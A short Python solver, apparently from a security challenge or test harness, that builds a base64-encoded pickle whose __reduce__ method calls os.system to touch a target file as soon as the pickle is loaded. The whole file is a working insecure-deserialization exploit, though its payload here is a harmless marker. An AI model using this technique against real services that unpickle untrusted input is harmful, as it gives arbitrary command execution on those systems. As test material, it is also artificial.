"""Answers with a pickle that runs a program as soon as it is read."""

import base64
import os
import pickle

from inside import TARGETS


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {TARGETS['written']}",)


def solve(instance, ctx):
    return base64.b64encode(pickle.dumps(Bomb())).decode()
